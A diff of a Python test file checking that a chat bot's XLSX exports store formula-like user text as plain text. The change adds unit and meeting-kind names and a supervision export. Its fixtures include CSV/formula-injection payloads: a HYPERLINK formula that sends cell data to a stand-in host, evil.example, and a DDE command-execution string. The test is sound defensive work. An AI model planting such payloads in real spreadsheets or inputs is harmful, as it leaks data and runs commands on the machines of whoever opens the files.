@@ -1,6 +1,6 @@
 """Every XLSX export keeps what people typed as text: never a live formula.
 
-Display names, opinions, suggestions and group names that begin like a
+Display names, opinions, suggestions, group, unit and meeting-kind names that begin like a
 formula (=, +, -, @, a tab, a carriage return) are written into every
 exporter's file; read back with openpyxl, each is the same text in a text
 cell, marked as typed with a leading apostrophe, and no cell is a formula.
@@ -16,6 +16,8 @@ from openpyxl import load_workbook
 
 from bot.console.xlsx import Book, table_xlsx
 from bot.roles import Actor
+from storage.people import ensure_unit
+from storage.supervision import Cadence
 from tests.harness import ChatHarness
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
@@ -23,6 +25,7 @@ DDE = "=cmd|' /C calc'!A0"
 # As names: what a platform or a roster file can carry, tab and CR included.
 NAMES = (HYPERLINK, "+1+1老师", "-2+3老师", "@SUM(1,1)", "\t=1+1老师", "\r=2+2老师")
 GROUP = "=1+2"
+KIND = "-1+政治学习"
 
 
 def formulas(content: bytes) -> tuple[list[str], set[str]]:
@@ -84,6 +87,10 @@ async def test_every_exporter_writes_formula_like_text_as_text(chat: ChatHarness
     for said in ("/意见箱", DDE, "完成", "实名", "确认"):
         await people[0].says(said)
     await sec.says("/廉政日历 开启", odd)
+    # A unit and a meeting kind (督导's columns are data) named like formulas.
+    async with chat.db.transaction() as s:
+        await ensure_unit(s, GROUP)
+        s.add(Cadence(name=KIND, period="month", per_period=1, keywords="", position=99))
 
     files = {
         "poll": await export(chat, "poll", {"id": "1"}),
@@ -91,13 +98,16 @@ async def test_every_exporter_writes_formula_like_text_as_text(chat: ChatHarness
         "feedback": await export(chat, "feedback", {"id": "1"}),
         "suggestions": await export(chat, "suggestions", {}),
         "reminders": await export(chat, "reminders", {}),
+        "supervision": await export(chat, "supervision", {}),
     }
+    assert set(files) == {kind for f in chat.app.router.features for kind in f.exports}
     expected: dict[str, set[str]] = {
         "poll": set(NAMES),
         "checkin": set(NAMES),
         "feedback": {*NAMES, *texts},
         "suggestions": {DDE, HYPERLINK},
         "reminders": {f"{GROUP}（一支部）"},
+        "supervision": {GROUP, f"{KIND} 本月", f"{KIND} 全年"},
     }
     for kind, content in files.items():
         live, values = formulas(content)
